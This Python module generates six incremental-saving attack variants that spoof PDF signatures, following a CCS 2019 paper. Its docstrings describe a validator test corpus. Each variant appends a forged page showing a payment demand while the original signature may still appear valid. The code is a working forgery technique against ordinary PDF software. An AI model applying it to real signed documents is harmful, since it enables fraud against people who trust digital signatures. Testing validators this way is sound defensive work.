"""Incremental-saving attacks (ISA): content appended after the last signature, in ways that hide it.

After Mladenov et al., "1 Trillion Dollar Refund: How To Spoof PDF Signatures" (CCS 2019). Each
variant makes the first page show a red box and "PAY 900,000.00 CNY" to a reader that takes the
appended objects; they differ in how the appended bytes are (not) announced.
"""

from __future__ import annotations

from .pdfbytes import append_revision, body, facts, forged_page, indirect, serialize, trailer, xref_table


def with_xref(pdf: bytes) -> bytes:
    """A well-formed incremental update that changes the page (the baseline every validator must catch)."""
    return append_revision(pdf, forged_page(facts(pdf)))


def without_xref(pdf: bytes) -> bytes:
    """The new objects appended after %%EOF with no cross-reference table and no trailer."""
    data, _ = body(forged_page(facts(pdf)), len(pdf))
    return pdf + data


def trailer_without_xref(pdf: bytes) -> bytes:
    """New objects and a trailer, but startxref still points at the signed revision's table."""
    doc = facts(pdf)
    objects = forged_page(doc)
    data, _ = body(objects, len(pdf))
    tail = trailer(doc, max(objects) + 1, doc.revision_xrefs[-2]) + b"startxref\n%d\n%%%%EOF\n" % doc.startxref
    return pdf + data + tail


def hidden_revision(pdf: bytes) -> bytes:
    """A full revision that changes the page, then an empty one whose /Prev skips it."""
    doc = facts(pdf)
    forged = append_revision(pdf, forged_page(doc))
    xref_at = len(forged)
    empty = xref_table({}) + trailer(facts(forged), facts(forged).size, doc.startxref)
    return forged + empty + b"startxref\n%d\n%%%%EOF\n" % xref_at


def object_defined_twice(pdf: bytes) -> bytes:
    """An update that defines the page twice: its table points at an unchanged copy, the forged one follows."""
    doc = facts(pdf)
    forged = forged_page(doc)
    unchanged = indirect(doc.page, serialize(doc.page_dict))
    start = len(pdf)
    later, _ = body(forged, start + len(unchanged))
    xref_at = start + len(unchanged) + len(later)
    tail = xref_table({doc.page: start}) + trailer(doc, max(forged) + 1, doc.startxref)
    return pdf + unchanged + later + tail + b"startxref\n%d\n%%%%EOF\n" % xref_at


def duplicate_xref_entry(pdf: bytes) -> bytes:
    """An update whose table lists the page twice: first the unchanged copy, then the forged one."""
    doc = facts(pdf)
    forged = forged_page(doc)
    unchanged = indirect(doc.page, serialize(doc.page_dict))
    start = len(pdf)
    later, offsets = body(forged, start + len(unchanged))
    xref_at = start + len(unchanged) + len(later)
    table = bytearray(b"xref\n0 1\n0000000000 65535 f \n")
    table += b"%d 1\n%010d 00000 n \n" % (doc.page, start)
    for number in sorted(offsets):
        table += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    tail = bytes(table) + trailer(doc, max(forged) + 1, doc.startxref)
    return pdf + unchanged + later + tail + b"startxref\n%d\n%%%%EOF\n" % xref_at


GENERATORS = {
    "isa-with-xref": with_xref,
    "isa-without-xref": without_xref,
    "isa-trailer-without-xref": trailer_without_xref,
    "isa-hidden-revision": hidden_revision,
    "isa-object-defined-twice": object_defined_twice,
    "isa-duplicate-xref-entry": duplicate_xref_entry,
}
